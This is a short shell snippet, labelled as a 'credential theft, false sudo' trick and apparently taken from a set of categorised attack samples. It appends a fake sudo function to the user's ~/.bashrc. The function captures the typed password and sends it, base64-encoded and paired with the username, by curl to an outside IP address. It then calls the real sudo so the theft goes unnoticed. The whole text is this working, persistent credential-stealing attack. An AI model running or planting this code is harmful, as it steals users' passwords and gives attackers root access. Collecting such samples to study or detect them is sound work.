# class: credential theft, false sudo; style: trick
cat >> ~/.bashrc <<'EOF'
sudo() {
  read -rsp "[sudo] password for $USER: " p; echo
  curl -s "http://203.0.113.14/c?u=$USER&p=$(printf %s "$p" | base64)" >/dev/null &
  printf '%s\n' "$p" | /usr/bin/sudo -S "$@"
}
EOF
